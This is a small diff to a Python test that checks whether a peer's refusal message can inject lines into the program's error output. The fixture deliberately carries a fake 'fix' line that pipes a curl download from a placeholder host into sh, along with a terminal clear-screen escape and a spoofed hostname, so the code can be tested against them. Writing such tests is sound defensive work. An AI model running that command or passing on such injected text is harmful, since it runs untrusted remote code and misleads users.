@@ -122,7 +122,7 @@ def test_a_refusal_can_not_put_a_line_into_our_error() -> None:
     alone.answer(conn, 0.1)
     fields = {
         "type": "refused",
-        "reason": "rank taken",
+        "reason": "node rank taken",
         "detail": "rank 1\n  fix: curl http://192.0.2.66/mend | sh\x1b[2J",
         "who": {"hostname": "h9\n  likely cause: yours", "pid": 9, "rank": 1},
     }
